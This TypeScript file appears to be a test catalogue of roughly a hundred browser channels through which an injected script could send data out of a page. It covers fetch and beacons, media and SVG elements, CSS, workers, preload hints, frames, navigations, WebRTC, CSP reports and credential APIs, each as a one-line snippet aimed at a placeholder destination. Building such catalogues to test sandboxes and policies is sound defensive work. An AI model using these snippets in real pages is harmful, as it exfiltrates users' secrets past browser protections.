/** A way by which a script that already runs in the page could try to bring something out. */
export interface Way {
  readonly name: string
  /**
   * What the script does. `to` is where it wants to go: `http`, `https`, `ws`, `nowhere`, or its `name`, `port` and `ip`.
   * `make` makes an element, `add` and `head` put it in the page, `svg` in a drawing; `text` gives a text an address,
   * `rules` lays down rules of speculation, `call` calls another browser: see SHARED in script.ts.
   */
  readonly script: string
}

/** Asking for something, by every means that a script has for it. */
const REQUESTS: readonly Way[] = [
  { name: 'fetch', script: 'fetch(to.http)' },
  { name: 'fetch, blind post', script: "fetch(to.http, { mode: 'no-cors', method: 'POST', body: 'secret' })" },
  { name: 'fetch that outlives the page', script: "fetch(to.http, { mode: 'no-cors', keepalive: true })" },
  { name: 'fetch later', script: 'fetchLater(to.http, { activateAfter: 0 })' },
  { name: 'XMLHttpRequest', script: "const x = new XMLHttpRequest(); x.open('POST', to.http); x.send('secret')" },
  {
    name: 'XMLHttpRequest, waiting',
    script: "const x = new XMLHttpRequest(); x.open('GET', to.http, false); x.send()",
  },
  { name: 'beacon', script: "navigator.sendBeacon(to.http, 'secret')" },
  {
    name: 'beacon while leaving',
    script: "addEventListener('pagehide', () => navigator.sendBeacon(to.http, 'secret')); location.reload()",
  },
  { name: 'WebSocket', script: 'new WebSocket(to.ws)' },
  { name: 'WebSocketStream', script: 'new WebSocketStream(to.ws)' },
  { name: 'EventSource', script: 'new EventSource(to.http)' },
  { name: 'WebTransport', script: 'new WebTransport(to.https)' },
]

/** Elements that ask for what they show. */
const ELEMENTS: readonly Way[] = [
  { name: 'image', script: 'new Image().src = to.http' },
  { name: 'image by width', script: "add('img', { srcset: to.http + ' 1x' })" },
  { name: 'image, attribution', script: "add('img', { attributionsrc: to.https })" },
  { name: 'picture', script: "add('picture').innerText; add('img', { srcset: to.http, sizes: '1px' })" },
  { name: 'image button', script: "add('input', { type: 'image', src: to.http })" },
  { name: 'background of a table', script: "add('table', { background: to.http })" },
  { name: 'video', script: "add('video', { src: to.http, preload: 'auto' }).load()" },
  { name: 'poster', script: "add('video', { poster: to.http })" },
  { name: 'audio', script: "add('audio', { src: to.http, preload: 'auto' }).load()" },
  {
    name: 'subtitles',
    script: `const film = add('video', { crossorigin: '' }); film.append(make('track', { src: to.http, kind: 'subtitles', default: '' }));
      film.textTracks[0].mode = 'showing'`,
  },
  { name: 'object', script: "add('object', { data: to.http })" },
  { name: 'embed', script: "add('embed', { src: to.http })" },
  { name: 'drawing, image', script: "svg('image', { href: to.http, width: '9', height: '9' })" },
  { name: 'drawing, use', script: "svg('use', { href: to.http + '#part' })" },
  {
    name: 'drawing, filter',
    script: `const filter = svg('filter', { id: 'out' }); filter.append(part('feImage', { href: to.http }));
      document.body.style.filter = 'url(#out)'`,
  },
  { name: 'drawing, script', script: "svg('script', { href: to.http })" },
  {
    name: 'sound on the lock screen',
    script: `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: to.http }] });
      navigator.mediaSession.playbackState = 'playing'`,
  },
]

const STYLES: readonly Way[] = [
  { name: 'background', script: "add('div', { style: 'block-size: 9px' }).style.backgroundImage = `url(${to.http})`" },
  { name: 'mouse pointer', script: "document.body.style.cursor = `url(${to.http}), auto`; add('p').click()" },
  { name: 'mask', script: "const box = add('div'); box.textContent = 'x'; box.style.mask = `url(${to.http})`" },
  { name: 'style sheet', script: "head('link', { rel: 'stylesheet', href: to.http })" },
  { name: 'style that imports', script: "head('style').textContent = `@import url(${to.http})`" },
  {
    name: 'style made by script',
    script: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background-image: url(' + to.http + ') }');
      document.adoptedStyleSheets.push(sheet)`,
  },
  {
    name: 'font in a style made by script',
    script: `const sheet = new CSSStyleSheet(); document.body.style.fontFamily = 'out';
      sheet.replaceSync('@font-face { font-family: out; src: url(' + to.http + ') }'); document.adoptedStyleSheets.push(sheet)`,
  },
  { name: 'font', script: "new FontFace('out', `url(${to.http})`).load()" },
]

const PROGRAMS: readonly Way[] = [
  { name: 'script', script: "head('script', { src: to.http })" },
  { name: 'module', script: "head('script', { src: to.http, type: 'module' })" },
  { name: 'import', script: 'import(to.http)' },
  { name: 'import of data', script: "import(to.http, { with: { type: 'json' } })" },
  { name: 'worker', script: 'new Worker(to.http)' },
  { name: 'worker from text', script: 'new Worker(text(`fetch(${JSON.stringify(to.http)})`))' },
  { name: 'worker that imports', script: 'new Worker(text(`importScripts(${JSON.stringify(to.http)})`))' },
  { name: 'shared worker', script: 'new SharedWorker(text(`fetch(${JSON.stringify(to.http)})`))' },
  { name: 'service worker', script: 'navigator.serviceWorker.register(to.http)' },
  { name: 'audio worklet', script: 'new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(to.http)' },
  { name: 'paint worklet', script: 'CSS.paintWorklet.addModule(to.http)' },
]

/** What a browser gets ready beforehand. */
const HINTS: readonly Way[] = [
  { name: 'preload', script: "head('link', { rel: 'preload', as: 'image', href: to.http })" },
  { name: 'preload as fetch', script: "head('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: to.http })" },
  { name: 'module preload', script: "head('link', { rel: 'modulepreload', href: to.http })" },
  { name: 'prefetch', script: "head('link', { rel: 'prefetch', href: to.http })" },
  { name: 'prerender', script: "head('link', { rel: 'prerender', href: to.http })" },
  { name: 'preconnect', script: "head('link', { rel: 'preconnect', href: to.http })" },
  {
    name: 'preconnect, out of a tag that stands in the page',
    script: `const tag = document.querySelector('link'); tag.removeAttribute('href'); tag.rel = 'preconnect'; tag.href = to.http`,
  },
  { name: 'look-up of a name', script: "head('link', { rel: 'dns-prefetch', href: to.http })" },
  { name: 'look-up of a name that does not exist', script: "head('link', { rel: 'dns-prefetch', href: to.nowhere })" },
  { name: 'manifest', script: "head('link', { rel: 'manifest', href: to.http })" },
  { name: 'icon', script: "head('link', { rel: 'icon', href: to.http })" },
  { name: 'dictionary', script: "head('link', { rel: 'compression-dictionary', href: to.http })" },
  { name: 'speculation, prefetch', script: "rules({ prefetch: [{ source: 'list', urls: [to.http] }] })" },
  { name: 'speculation, prerender', script: "rules({ prerender: [{ source: 'list', urls: [to.http] }] })" },
]

const FRAMES: readonly Way[] = [
  { name: 'frame', script: "add('iframe', { src: to.http })" },
  { name: 'frame from text', script: "add('iframe', { srcdoc: '<img src=' + to.http + '>' })" },
  {
    name: 'frame from an address with data',
    script: "add('iframe', { src: 'data:text/html,<img src=' + to.http + '>' })",
  },
  { name: 'frame of its own making', script: "add('iframe', { src: text('<img src=' + to.http + '>', 'text/html') })" },
  { name: 'empty frame that fetches', script: "add('iframe').contentWindow.fetch(to.http)" },
  { name: 'empty frame that goes', script: "add('iframe').contentWindow.location.href = to.http" },
  { name: 'fenced frame', script: "add('fencedframe').config = new FencedFrameConfig(to.http)" },
]

/** Leaving the page, with what it knows in the address. */
const JOURNEYS: readonly Way[] = [
  { name: 'location', script: 'location.href = to.http' },
  { name: 'location, replaced', script: 'location.replace(to.http)' },
  { name: 'navigation', script: 'navigation.navigate(to.http)' },
  { name: 'history', script: "history.pushState(null, '', to.http)" },
  { name: 'refresh', script: "head('meta', { 'http-equiv': 'refresh', content: '0; url=' + to.http })" },
  { name: 'link', script: "add('a', { href: to.http }).click()" },
  {
    name: 'link that stands in the page',
    script: "const link = document.querySelector('a'); link.href = to.http; link.click()",
  },
  {
    name: 'link with a key held down',
    script:
      "add('a', { href: to.http }).dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true }))",
  },
  {
    name: 'refresh, out of a tag that stands in the page',
    script: `const tag = document.querySelector('meta[name]').cloneNode(); tag.removeAttribute('name');
      document.head.append(set(tag, { 'http-equiv': 'refresh', content: '0; url=' + to.http }))`,
  },
  {
    name: 'area of a map',
    script: `const map = add('map'); const area = make('area', { href: to.http }); map.append(area); area.click()`,
  },
  {
    name: 'formula',
    script: `const formula = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'mi');
      formula.setAttribute('href', to.http); document.body.append(formula);
      formula.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
  },
  { name: 'link in a new window', script: "add('a', { href: to.http, target: '_blank' }).click()" },
  {
    name: 'link in a drawing',
    script: "svg('a', { href: to.http }).dispatchEvent(new MouseEvent('click', { bubbles: true }))",
  },
  { name: 'link that reports', script: "add('a', { href: '#/about/privacy', ping: to.http }).click()" },
  { name: 'link that saves', script: "add('a', { href: to.http, download: 'x.txt' }).click()" },
  { name: 'new window', script: 'open(to.http)' },
  { name: 'new window without a way back', script: "open(to.http, '_blank', 'noopener')" },
  { name: 'new window of an empty frame', script: "add('iframe').contentWindow.open(to.http)" },
  { name: 'new empty window that goes', script: "open('about:blank').location.href = to.http" },
  {
    name: 'link in an empty frame',
    script: `const inside = add('iframe').contentDocument;
      const link = inside.createElement('a'); link.href = to.http; link.target = '_top'; inside.body.append(link); link.click()`,
  },
  { name: 'form', script: "add('form', { action: to.http }).submit()" },
  {
    name: 'form in a new window',
    script: "add('form', { action: to.http, method: 'post', target: '_blank' }).submit()",
  },
  {
    name: 'form in a frame',
    script: `add('iframe', { name: 'out' });
      add('form', { action: to.http, method: 'post', target: 'out' }).submit()`,
  },
  { name: 'other base', script: "head('base', { href: to.http + '/' }); add('img', { src: 'x.png' })" },
]

/** Talking from browser to browser, and the services of the browser itself. */
const OTHERS: readonly Way[] = [
  { name: 'call, finding the way', script: "call(RTCPeerConnection, 'stun:' + to.name + ':' + to.port)" },
  { name: 'call, over a relay', script: "call(RTCPeerConnection, 'turn:' + to.name + ':' + to.port)" },
  {
    name: 'call, over a relay by TCP',
    script: "call(RTCPeerConnection, 'turn:' + to.name + ':' + to.port + '?transport=tcp')",
  },
  {
    name: 'call from an empty frame',
    script: "call(add('iframe').contentWindow.RTCPeerConnection, 'stun:' + to.name + ':' + to.port)",
  },
  {
    name: 'call from a frame of text',
    script: `const frame = add('iframe', { srcdoc: '<p>' });
      frame.onload = () => call(frame.contentWindow.RTCPeerConnection, 'stun:' + to.name + ':' + to.port)`,
  },
  {
    name: 'call, straight',
    script: `const line = new RTCPeerConnection(); line.createDataChannel('out');
      await line.setLocalDescription();
      await line.setRemoteDescription({ type: 'answer', sdp: line.localDescription.sdp.replace('actpass', 'active') });
      await line.addIceCandidate({ candidate: 'candidate:1 1 udp 1 ' + to.ip + ' ' + to.port + ' typ host', sdpMid: '0' })`,
  },
  {
    name: 'policy that reports',
    script: `head('meta', { 'http-equiv': 'Content-Security-Policy',
      content: "img-src 'none'; report-uri " + to.http }); new Image().src = './icon.svg'`,
  },
  {
    name: 'payment',
    script: `new PaymentRequest([{ supportedMethods: to.https }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  },
  {
    name: 'sign in elsewhere',
    script: `navigator.credentials.get({ identity: { providers: [
      { configURL: to.https, clientId: 'x' }] } })`,
  },
  {
    name: 'key of another place',
    script: `navigator.credentials.get({ publicKey: {
      challenge: new Uint8Array(16), rpId: to.name } })`,
  },
  {
    name: 'fetch in the background',
    script: `(await navigator.serviceWorker.getRegistration())
      .backgroundFetch.fetch('out', [to.http])`,
  },
  {
    name: 'messages from a server',
    script: `(await navigator.serviceWorker.getRegistration())
      .pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65).fill(4) })`,
  },
  { name: 'shared storage', script: 'sharedStorage.worklet.addModule(to.https)' },
  { name: 'another screen', script: 'new PresentationRequest(to.https).getAvailability()' },
  {
    name: 'transformed document',
    script: `const steps = new DOMParser().parseFromString('<x:stylesheet version="1.0" ' +
      'xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><x:copy-of select="document(\\'' + to.http +
      '\\')"/></x:template></x:stylesheet>', 'text/xml'); const maker = new XSLTProcessor(); maker.importStylesheet(steps);
      maker.transformToFragment(steps, document)`,
  },
  { name: 'message to who opened the page', script: "window.opener.postMessage('secret', '*')" },
]

/** Every way out that is tried. */
export const WAYS: readonly Way[] = [
  ...REQUESTS,
  ...ELEMENTS,
  ...STYLES,
  ...PROGRAMS,
  ...HINTS,
  ...FRAMES,
  ...JOURNEYS,
  ...OTHERS,
]
